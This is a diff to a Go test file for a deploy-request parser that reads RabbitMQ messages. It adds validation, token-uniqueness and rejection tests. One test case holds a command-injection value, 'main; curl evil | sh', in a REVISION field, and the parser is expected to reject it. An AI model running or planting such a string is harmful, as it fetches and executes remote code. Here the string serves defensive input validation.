@@ -1,10 +1,15 @@
 package deployrequest
 
 import (
+	"context"
+	"errors"
 	"strings"
 	"testing"
+	"time"
 
 	amqp "github.com/rabbitmq/amqp091-go"
+
+	"github.com/freeleaps/provider-devops/internal/events"
 )
 
 func TestParse(t *testing.T) {
@@ -28,6 +33,7 @@ func TestParse(t *testing.T) {
 		"NoEnvironment":   {body: `{"project": "shop"}`, want: "environment is required"},
 		"BadLabelValue":   {body: `{"project": "shop/../x", "environment": "dev"}`, want: `project "shop/../x"`},
 		"BadNamespace":    {body: `{"project": "shop", "environment": "dev", "namespace": "Team_A"}`, want: `namespace "Team_A"`},
+		"RevisionParam":   {body: `{"project": "shop", "environment": "dev", "namespace": "team", "parameters": {"REVISION": "main; curl evil | sh"}}`, want: "parameters.REVISION \"main; curl evil | sh\" is not a git ref"},
 		"RevisionTwice":   {body: `{"project": "shop", "environment": "dev", "namespace": "team", "revision": "a", "parameters": {"REVISION": "b"}}`, want: "both revision and parameters.REVISION"},
 		"WrongFieldTypes": {body: `{"project": "shop", "environment": "dev", "namespace": "team", "parameters": {"A": 1}}`, want: "malformed DevOpsReconcile"},
 	}
@@ -47,9 +53,16 @@ func TestParse(t *testing.T) {
 }
 
 func TestToken(t *testing.T) {
-	a := Token(amqp.Delivery{MessageId: "deploy shop/dev #42", Body: []byte("x")})
-	if a != "amqp-deploy-shop-dev-42" {
+	if a := Token(amqp.Delivery{MessageId: "deploy-shop-dev-42", Body: []byte("x")}); a != "amqp-deploy-shop-dev-42" {
 		t.Errorf("token from message id: %q", a)
+	}
+	a, b := Token(amqp.Delivery{MessageId: "build/1"}), Token(amqp.Delivery{MessageId: "build 1"})
+	if a == b || !strings.HasPrefix(a, "amqp-build-1-") {
+		t.Errorf("ids that clean to the same text must keep distinct tokens: %q %q", a, b)
+	}
+	t1, t2 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC)
+	if Token(amqp.Delivery{Body: []byte(`{}`), Timestamp: t1}) == Token(amqp.Delivery{Body: []byte(`{}`), Timestamp: t2}) {
+		t.Error("two requests with one body at two times share a token: the second would be dropped as a duplicate")
 	}
 	b1, b2 := Token(amqp.Delivery{Body: []byte(`{"project":"a"}`)}), Token(amqp.Delivery{Body: []byte(`{"project":"a"}`)})
 	if b1 != b2 || !strings.HasPrefix(b1, "amqp-sha256-") {
@@ -73,5 +86,30 @@ func TestIsRevision(t *testing.T) {
 		if got := IsRevision(r); got != want {
 			t.Errorf("IsRevision(%q) = %v, want %v", r, got, want)
 		}
+	}
+}
+
+// TestHandlerRefusesBeforeReading: requests that can never be applied are
+// rejected before the handler reads or writes anything (nil kube).
+func TestHandlerRefusesBeforeReading(t *testing.T) {
+	future := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
+	cases := map[string]struct {
+		d    amqp.Delivery
+		want string
+	}{
+		"Future":  {amqp.Delivery{UserId: "ci", Body: []byte(`{"project": "shop", "environment": "dev", "namespace": "team", "requestedAt": "` + future + `"}`)}, "is in the future"},
+		"NoUser":  {amqp.Delivery{Body: []byte(`{"project": "shop", "environment": "dev", "namespace": "team", "requestedAt": "2026-01-01T00:00:00Z"}`)}, "no AMQP user_id"},
+		"NoTime":  {amqp.Delivery{UserId: "ci", Body: []byte(`{"project": "shop", "environment": "dev", "namespace": "team"}`)}, "requestedAt is required"},
+		"TooBig":  {amqp.Delivery{UserId: "ci", Body: make([]byte, MaxBody+1)}, "not read"},
+		"Garbage": {amqp.Delivery{UserId: "ci", Body: []byte("deploy!")}, "not a JSON object"},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			err := Handler(nil)(context.Background(), tc.d)
+			var r *events.RejectError
+			if !errors.As(err, &r) || !strings.Contains(r.Reason, tc.want) {
+				t.Errorf("want a rejection containing %q, got %v", tc.want, err)
+			}
+		})
 	}
 }
